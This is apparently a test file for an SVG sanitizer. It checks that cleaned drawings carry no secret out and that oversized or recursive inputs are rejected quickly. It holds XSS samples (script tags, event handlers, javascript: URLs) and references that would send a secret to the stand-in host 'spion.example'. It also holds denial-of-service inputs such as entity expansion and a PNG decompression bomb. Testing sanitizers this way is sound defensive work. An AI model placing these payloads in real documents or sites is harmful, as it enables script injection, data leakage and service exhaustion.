import assert from 'node:assert/strict';
import { zlibSync } from 'fflate';
import { base64 } from '../../src/picture/base64.ts';
import { fromAscii, joinedBytes, uint32 } from '../../src/picture/bytes.ts';
import { pictureOf } from '../../src/picture/picture.ts';
import { computingTime } from '../computing-time.ts';
import {
  chunk,
  jpegWith,
  ownChunks,
  pngOfChunks,
  secret,
  tellingChunks,
  tellingSegments,
  tells,
} from './made.ts';

const svg = (inside: string, attributes = 'width="40" height="30"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;

function read(text: string) {
  return pictureOf(new TextEncoder().encode(text));
}

/** A drawing as it gets into a letter. */
function cleaned(text: string): string {
  const picture = read(text);
  assert.equal(picture.type, 'shown', text.slice(0, 300));
  return picture.type === 'shown' ? new TextDecoder().decode(picture.content.bytes) : '';
}

/** The same without its outermost element. */
const inside = (text: string) => cleaned(text).replace(/^<svg[^>]*?(?:\/>|>)|<\/svg>$/gu, '');

const photograph = base64(jpegWith(Object.values(tellingSegments)));
const png = base64(
  pngOfChunks([
    ...ownChunks().slice(0, 1),
    tellingChunks.tEXt ?? new Uint8Array(),
    ...ownChunks().slice(1),
  ]),
);

describe('a drawing', () => {
  const telling: [what: string, inside: string][] = [
    ['a script', `<script>alert("${secret}")</script>`],
    [
      'a script in another namespace',
      `<s:script xmlns:s="http://www.w3.org/2000/svg">${secret}</s:script>`,
    ],
    [
      'a handler',
      `<rect width="9" height="9" onload="${secret}" onclick="${secret}" ONMOUSEOVER="${secret}"/>`,
    ],
    ['a link', `<a href="http://spion.example/${secret}"><rect width="9" height="9"/></a>`],
    ['a link of XLink', `<a xlink:href="javascript:${secret}"><rect width="9" height="9"/></a>`],
    [
      'foreign content',
      `<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">${secret}</p></foreignObject>`,
    ],
    [
      'a picture from elsewhere',
      `<image href="http://spion.example/${secret}.png" width="9" height="9"/>`,
    ],
    [
      'a picture of the disk',
      `<image xlink:href="file:///home/karla/${secret}.png" width="9" height="9"/>`,
    ],
    [
      'a drawing inside',
      `<image href="data:image/svg+xml;base64,${btoa(svg(secret))}" width="9" height="9"/>`,
    ],
    [
      'a photograph that knows more',
      `<image href="data:image/jpeg;base64,${photograph}" width="9" height="9"/>`,
    ],
    ['a PNG that knows more', `<image href="data:image/png;base64,${png}" width="9" height="9"/>`],
    [
      'one under another kind',
      `<image href="data:image/png;x=${secret};base64,${photograph}" width="9" height="9"/>`,
    ],
    [
      'something used from elsewhere',
      `<use href="http://spion.example/x.svg#${secret}"/><use href="${secret}.svg#a"/>`,
    ],
    [
      'a fill from elsewhere',
      `<rect width="9" height="9" fill="url(http://spion.example/${secret}.svg#a)"/>`,
    ],
    [
      'a fill from elsewhere in a style',
      `<rect width="9" height="9" style="fill:url('//spion.example/${secret}#a')"/>`,
    ],
    [
      'an escaped address',
      `<rect style="fill:\\75rl(http://spion.example/${secret})" width="9" height="9"/>`,
    ],
    [
      'an escaped address as attribute',
      `<rect fill="u\\72l(//spion.example/${secret})" width="9" height="9"/>`,
    ],
    [
      'a sheet from elsewhere',
      `<style>@import url(http://spion.example/${secret}.css); rect { fill: red }</style>`,
    ],
    [
      'a font from elsewhere',
      `<style>@font-face { font-family: ${secret}; src: url(http://spion.example/f) }</style>`,
    ],
    ['a sheet as instruction', `<?xml-stylesheet href="http://spion.example/${secret}.css"?>`],
    ['a comment', `<!-- ${secret} -->`],
    ['a comment in a sheet', `<style>/* ${secret} */ rect { fill: red } /* ${secret}</style>`],
    ['notes of editors', `<sodipodi:namedview xmlns:sodipodi="urn:s" id="${secret}"/>`],
    [
      'metadata',
      `<metadata><rdf:RDF xmlns:rdf="urn:rdf">${secret}</rdf:RDF></metadata><title>${secret}</title><desc>${secret}</desc>`,
    ],
    [
      'the name of an object',
      `<g id="${secret}" class="${secret}" inkscape:label="${secret}" xmlns:inkscape="urn:i"/>`,
    ],
    [
      'data of one’s own',
      `<rect data-name="${secret}" aria-label="${secret}" width="9" height="9"/>`,
    ],
    [
      'an animation',
      `<rect width="9" height="9"><set attributeName="href" to="javascript:${secret}"/></rect>`,
    ],
    [
      'text that is no one’s',
      `${secret}<g>${secret}</g><rect width="9" height="9">${secret}</rect>`,
    ],
    [
      'what nobody shows',
      `<switch><g requiredExtensions="urn:x"><text>${secret}</text></g><g/></switch>`,
    ],
    [
      'what is hidden',
      `<g display="none"><text>${secret}</text></g><g style="display:none"><text>${secret}</text></g>`,
    ],
    ['variables', `<style>rect { --x: url(http://spion.example/${secret}) }</style>`],
  ];
  for (const [what, content] of telling) {
    it(`tells nothing by ${what}`, () => {
      const text = cleaned(svg(content, `width="40" height="30" data-path="${secret}"`));
      assert.ok(!tells(fromAscii(text)), text);
      for (const [embedded = ''] of text.matchAll(/(?<=base64,)[^"]*/gu))
        assert.ok(!tells(fromAscii(atob(embedded))));
      assert.doesNotMatch(
        text.replaceAll(/ xmlns(?::xlink)?="[^"]*"/gu, ''),
        /[:@\\](?!image)\/*\w*spion|script|on\w+=|<!|<\?/iu,
      );
    });
  }

  it('tells nothing by the path where its drafter keeps it', () => {
    const text = cleaned(
      `<?xml version="1.0"?><!-- ${secret} --><!DOCTYPE svg [<!ENTITY a "${secret}">]>` +
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="urn:s" s:docname="/home/karla/${secret}.svg" width="4" height="3"/>`,
    );
    assert.ok(!tells(fromAscii(text)), text);
  });

  const kept: [what: string, typed: string, written: string][] = [
    [
      'shapes',
      '<rect x="1" width="9" height="9" rx="2" fill="#c00" transform="rotate(5 1 2)"/>',
      '<rect x="1" width="9" height="9" rx="2" fill="#c00" transform="rotate(5 1 2)"/>',
    ],
    [
      'words',
      '<text x="1" y="2" font-family="&apos;Arial&apos;, sans-serif">Unfälle &lt; 5 <tspan dy="1">a</tspan></text>',
      '<text x="1" y="2" font-family="\'Arial\', sans-serif">Unfälle &lt; 5 <tspan dy="1">a</tspan></text>',
    ],
    [
      'gradients',
      '<linearGradient id="verlauf"><stop offset="5%" stop-color="rgb(1,2,3)"/></linearGradient><rect fill="url(#verlauf) red" width="1" height="1"/>',
      '<linearGradient id="n1"><stop offset="5%" stop-color="rgb(1,2,3)"/></linearGradient><rect fill="url(#n1) red" width="1" height="1"/>',
    ],
    [
      'what is used before it is there',
      '<use xlink:href="#a"/><path id="a" d="M0 0L1 1z"/>',
      '<use xlink:href="#n1"/><path id="n1" d="M0 0L1 1z"/>',
    ],
    [
      'what links are on',
      '<a href="https://example.org/"><path d="M0 0"/></a>',
      '<g><path d="M0 0"/></g>',
    ],
    [
      'styles of classes, at their elements',
      '<style>.a, #b { fill: red; stroke: blue !important } .a { fill: green }</style><path class="x a" d="M0 0" style="stroke-width: 2"/>',
      '<path style="fill:green;stroke:blue;stroke-width:2" d="M0 0"/>',
    ],
    [
      'styles of what stands within',
      '<style><![CDATA[ g > .a path { fill: red } .b path { fill: green } ]]></style><g><g class="a"><path d="M0 0"/></g></g>',
      '<g><g><path style="fill:red" d="M0 0"/></g></g>',
    ],
    [
      'the more particular of two styles',
      '<style>#a{fill:red} path.b{fill:green} path{fill:blue} *{stroke:red}</style><path class="b" id="a" d="M0 0"/><path class="b" d="M0 0"/>',
      '<path style="stroke:red;fill:red" id="n1" d="M0 0"/><path style="stroke:red;fill:green" d="M0 0"/>',
    ],
    [
      'effects',
      '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter><g filter="url(#f)"/>',
      '<filter id="n1"><feGaussianBlur stdDeviation="2"/></filter><g filter="url(#n1)"/>',
    ],
    [
      'what is hidden and used',
      '<g display="none"><path id="a" d="M0 0"/></g><use href="#a"/>',
      '<g display="none"><path id="n1" d="M0 0"/></g><use xlink:href="#n1"/>',
    ],
  ];
  for (const [what, typed, written] of kept) {
    it(`keeps ${what}`, () => assert.equal(inside(svg(typed)), written));
  }

  it('is the same when it is read again', () => {
    for (const [, typed] of kept) {
      const once = cleaned(svg(typed));
      assert.equal(cleaned(once), once);
    }
  });

  it('keeps the pictures that lie in it', () => {
    const text = cleaned(
      svg(`<image xlink:href="data:image/png;base64,${png}" width="9" height="9"/>`),
    );
    const [embedded = ''] = /(?<=base64,)[^"]*/u.exec(text) ?? [];
    assert.ok(atob(embedded).startsWith('\u0089PNG'));
  });

  it('says that it lacks pictures that do not lie in it', () => {
    const picture = read(svg('<image href="foto.jpg" width="9" height="9"/>'));
    assert.ok(picture.type === 'shown' && picture.lacksPictures);
  });

  it('may define abbreviations for its namespaces, as old ones do', () => {
    const text = `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;" width="4" height="3"><path d="M0 0"/></svg>`;
    assert.match(cleaned(text), /<path d="M0 0"\/>/u);
  });

  it('is read in the encoding that it names', () => {
    const latin = Buffer.from(
      `<?xml version="1.0" encoding="ISO-8859-1"?>${svg('<text>Unfälle</text>')}`,
      'latin1',
    );
    const picture = pictureOf(latin);
    assert.ok(picture.type === 'shown');
    assert.match(new TextDecoder().decode(picture.content.bytes), /Unfälle/u);
    const wide = pictureOf(Buffer.from(`\uFEFF${svg('<text>Unfälle</text>')}`, 'utf16le'));
    assert.equal(wide.type, 'shown');
  });

  const heavy: [what: string, text: () => string][] = [
    ['1,000 nested groups', () => svg('<g>'.repeat(1000) + '</g>'.repeat(1000))],
    ['a million elements', () => svg('<g/>'.repeat(1_000_000))],
    [
      'uses of uses',
      () =>
        svg(
          `${Array.from(
            { length: 30 },
            (_, i) => `<g id="a${i}">${`<use href="#a${i + 1}"/>`.repeat(10)}</g>`,
          ).join('')}<path id="a30" d="M0 0"/>`,
        ),
    ],
    [
      'a chain of uses',
      () =>
        svg(
          Array.from({ length: 20_000 }, (_, i) => `<use id="a${i}" href="#a${i + 1}"/>`).join(''),
        ),
    ],
    ['something that uses itself', () => svg('<g id="a"><use href="#a"/></g>')],
    [
      'patterns in patterns',
      () =>
        svg(
          `${Array.from(
            { length: 30 },
            (_, i) =>
              `<pattern id="p${i}">${`<rect fill="url(#p${i + 1})" width="1" height="1"/>`.repeat(10)}</pattern>`,
          ).join('')}<pattern id="p30"><path d="M0 0"/></pattern><rect style="fill:url(#p0)"/>`,
        ),
    ],
    [
      'markers at every corner',
      () =>
        svg(
          `<marker id="m">${'<path d="M0 0"/>'.repeat(1000)}</marker><path marker-mid="url(#m)" d="${'M0 0'.repeat(1000)}"/>`,
        ),
    ],
    [
      'turbulence',
      () =>
        svg('<filter id="f"><feTurbulence numOctaves="10000"/></filter><rect filter="url(#f)"/>'),
    ],
    [
      'wide morphology',
      () =>
        svg('<filter id="f"><feMorphology radius="50"/></filter><rect style="filter:url(#f)"/>'),
    ],
    [
      'a thousand blurs',
      () =>
        svg(
          `<filter id="f"><feGaussianBlur stdDeviation="9"/></filter>${'<rect filter="url(#f)"/>'.repeat(1000)}`,
        ),
    ],
    [
      'entities without number',
      () =>
        `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(99)}">]>${svg(`<text>${'&a;'.repeat(50_000)}</text>`)}`,
    ],
    ['a book of text', () => svg(`<text>${'a'.repeat(1_000_000)}</text>`)],
    [
      'pictures of 10,000²',
      () => {
        const side = uint32(10_000);
        const header = joinedBytes([side, side, Uint8Array.of(1, 0, 0, 0, 0)]);
        const lines = zlibSync(new Uint8Array(10_000 * (1 + 10_000 / 8)));
        const chunks = [
          chunk('IHDR', header),
          chunk('IDAT', lines),
          chunk('IEND', new Uint8Array()),
        ];
        const bytes = base64(pngOfChunks(chunks));
        return svg(`<image href="data:image/png;base64,${bytes}" width="9" height="9"/>`);
      },
    ],
  ];
  for (const [what, text] of heavy) {
    it(`is too heavy with ${what}, which is found out at once`, () => {
      const typed = text();
      const start = computingTime();
      assert.equal(read(typed).type, 'too-heavy');
      assert.ok(computingTime() - start < 5_000);
    });
  }

  const long = 200_000;
  const linear: [what: string, text: string][] = [
    ['a width without end', `<svg width="${'1'.repeat(long)}!" height="9"/>`],
    ['a viewBox without end', `<svg viewBox="${'1 '.repeat(long)}!"/>`],
    ['blanks', svg(' '.repeat(long), `width="4"${' '.repeat(long)}height="3"`)],
    ['a name without end', svg(`<${'a'.repeat(long)}/>`)],
    ['a value without brackets', svg(`<rect fill="${'a-'.repeat(long)}"/>`)],
    [
      'a value of brackets',
      svg(`<rect fill="${'('.repeat(long)}" stroke="${'url('.repeat(long)}"/>`),
    ],
    ['braces', svg(`<style>${'{'.repeat(long)}</style>`)],
    ['comments', svg(`<style>${'/*'.repeat(long)}</style><rect style="${'/*'.repeat(long)}"/>`)],
    [
      'selectors',
      svg(
        `<style>${'a '.repeat(long)}{fill:red}${'a,'.repeat(long)}{fill:red}${'*{fill:red}'.repeat(20_000)}</style>${'<g/>'.repeat(20_000)}`,
      ),
    ],
    [
      'attributes',
      svg(`<rect ${Array.from({ length: 50_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
    ],
    ['entities', `<!DOCTYPE svg [${'<!ENTITY a '.repeat(20_000)}]>${svg('')}`],
    ['classes', svg(`<g class="${'a '.repeat(long)}"/>`)],
    ['an opening that never ends', '<svg '.repeat(long)],
    ['a doctype that never ends', `<!DOCTYPE svg [${'<'.repeat(long)}`],
  ];
  for (const [what, text] of linear) {
    it(`takes no longer than its length wants: ${what}`, () => {
      const start = computingTime();
      read(text);
      assert.ok(computingTime() - start < 5_000);
    });
  }
});
